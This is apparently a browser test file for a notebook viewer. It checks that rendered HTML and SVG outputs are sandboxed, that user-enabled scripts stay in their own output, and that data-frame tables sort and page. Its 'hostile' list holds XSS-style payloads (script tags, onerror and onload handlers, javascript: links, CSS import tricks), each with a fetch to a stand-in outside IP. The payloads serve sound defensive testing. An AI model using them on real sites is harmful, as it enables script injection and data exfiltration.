import { barriers, expect, screenshots, until } from "../harness";
import { cell, opened, test } from "./stage";

const html = (text: string) => [
  { output_type: "display_data", metadata: {}, data: { "text/html": text, "text/plain": "text" } },
];
const mark = "window.top.__ran = 1; fetch('http://203.0.113.7/out')";

/** Each tries to run a script, to reach another host, or to leave its place. */
const hostile = [
  `<script>${mark}</script>`,
  `<img src="http://203.0.113.7/x.png" onerror="${mark}">`,
  `<iframe src="http://203.0.113.7/" srcdoc="<script>${mark}</script>"></iframe>`,
  `<form action="http://203.0.113.7/" target="_top"><input autofocus onfocus="${mark}"><button>send</button></form>`,
  `<meta http-equiv="refresh" content="0;url=http://203.0.113.7/">`,
  `<svg onload="${mark}"><script>${mark}</script><image href="http://203.0.113.7/x.svg"/></svg>`,
  `<link rel="stylesheet" href="http://203.0.113.7/x.css"><style>@import url(http://203.0.113.7/y.css); body { background: url(http://203.0.113.7/z.png) }</style>`,
  `<style>@\\69mport "http://203.0.113.7/e.css"; p { background: u\\72l(http://203.0.113.7/f.png) }</style><p style="background:image-set('http://203.0.113.7/g.png' 1x)">x</p>`,
  `<a href="javascript:${mark}" target="_top">x</a><base href="http://203.0.113.7/"><object data="http://203.0.113.7/"></object><embed src="http://203.0.113.7/">`,
  `<table border="1" class="dataframe"><tbody><tr><td><img src=x onerror="${mark}">words</td></tr></tbody></table>`,
];

test("outputs of a hostile notebook run nothing and reach nobody", async ({ world, visit }) => {
  const svg = [
    {
      output_type: "display_data",
      metadata: {},
      data: {
        "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="${mark}"><script>${mark}</script><image href="http://203.0.113.7/x.png" width="9" height="9"/></svg>`,
      },
    },
  ];
  const session = await opened(world, "From elsewhere", [
    ...hostile.map((h) => ({ source: "x", count: 1, outputs: html(h) })),
    { source: "x", count: 2, outputs: svg },
  ]);
  const v = await visit();
  v.allow(/content policy|Content Security Policy|Refused to/); // the frame's own policy says what it kept in
  const out: string[] = [];
  v.page.on("request", (r) => r.url().includes("203.0.113.7") && out.push(r.url()));
  await v.page.goto(`/s/${session}/notebook`);
  for (let i = 0; i <= hostile.length; i++) {
    await until(`cell ${i}`, async () => {
      await v.page.locator("[data-cells]").evaluate((el) => el.scrollBy(0, 150));
      return (await cell(v.page, `c${i}`).locator("[data-outputs]").count()) > 0;
    });
    await cell(v.page, `c${i}`).locator("[data-output]").first().waitFor();
  }
  await cell(v.page, `c${hostile.length}`).getByRole("img").waitFor();
  expect(await v.page.evaluate(() => (window as { __ran?: number }).__ran)).toBeUndefined();
  expect(out).toEqual([]);
  await v.page.getByText("From the file").first().waitFor();
  expect(v.page.url()).toContain("/notebook/");
});

test("scripts of one output run when somebody allows them, in that output alone", async ({ world, visit }) => {
  const page = (name: string) =>
    html(`<p id="p">still</p><script>document.getElementById("p").textContent = "${name} ran"</script>`);
  const session = await opened(world, "Two pages", [
    { source: "x", count: 1, outputs: page("one") },
    { source: "x", count: 2, outputs: page("two") },
  ]);
  const v = await visit({ path: `/s/${session}/notebook` });
  const text = (id: string) => cell(v.page, id).frameLocator("iframe").locator("#p");
  await text("c0").getByText("still").or(text("c0")).first().waitFor();
  await cell(v.page, "c0").getByRole("button", { name: "Run scripts" }).click();
  await cell(v.page, "c0").frameLocator("iframe").getByText("one ran").waitFor();
  expect(await text("c1").textContent()).toBe("still");
});

const frame = `<div><style scoped>.dataframe th { color: red }</style><table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>week</th><th>units</th></tr></thead><tbody>${Array.from({ length: 25 }, (_, i) => `<tr><th>${i}</th><td>W${i}</td><td>${(i * 37) % 100}</td></tr>`).join("")}</tbody></table><p>25 rows × 2 columns</p></div>`;

test("a data frame is a table that sorts and pages", async ({ world, visit }) => {
  const session = await opened(world, "A table", [{ source: "df", count: 1, outputs: html(frame) }]);
  const v = await visit({ path: `/s/${session}/notebook` });
  const table = cell(v.page, "c0").locator("table");
  await table.waitFor();
  expect(await table.locator("tbody tr").count()).toBe(10);
  await table.getByRole("button", { name: "units" }).click();
  await table.getByRole("button", { name: "units" }).click();
  expect(await table.locator("tbody tr").first().locator("td").nth(2).textContent()).toBe("96");
  await cell(v.page, "c0").getByRole("button", { name: "Next rows" }).click();
  await cell(v.page, "c0").getByText("11–20").waitFor();
});

for (const phone of [false, true]) {
  test(`a notebook has no barriers: ${phone ? "phone" : "desktop"}`, { timeout: 180_000 }, async ({ world, visit }) => {
    const session = await opened(world, "Weekly demand forecast", [
      { type: "markdown", source: "## Weekly demand\n\nUnits by **region**." },
      { source: "weekly.head()", count: 4, outputs: html(frame) },
      {
        source: "print('hello')",
        count: 5,
        outputs: [
          { output_type: "stream", name: "stdout", text: "hello\n" },
          { output_type: "stream", name: "stderr", text: "careful\n" },
          { output_type: "error", ename: "ValueError", evalue: "no", traceback: ["\u001b[31mValueError\u001b[0m: no"] },
        ],
      },
      {
        source: "data",
        count: 6,
        outputs: [
          {
            output_type: "execute_result",
            execution_count: 6,
            metadata: {},
            data: { "application/json": { a: [1, 2], b: null } },
          },
          { output_type: "display_data", metadata: {}, data: { "text/html": "<p>A page</p>" } },
        ],
      },
    ]);
    const v = await visit({
      path: `/s/${session}/notebook`,
      phone,
      prefs: phone ? { theme: "dark", language: "ko" } : {},
    });
    v.allow(/localStorage.*sandboxed/); // of the test's own script, in the frame
    await cell(v.page, "c1").locator("table").waitFor();
    expect(await barriers(v.page)).toEqual([]);
    await cell(v.page, "c2").locator("pre").first().click();
    await cell(v.page, "c2").locator(".cm-content").waitFor();
    expect(await barriers(v.page)).toEqual([]);
    await screenshots(v.page, `notebook-file-${phone ? "ko" : "en"}`, [phone ? "narrow" : "wide"]);
  });
}
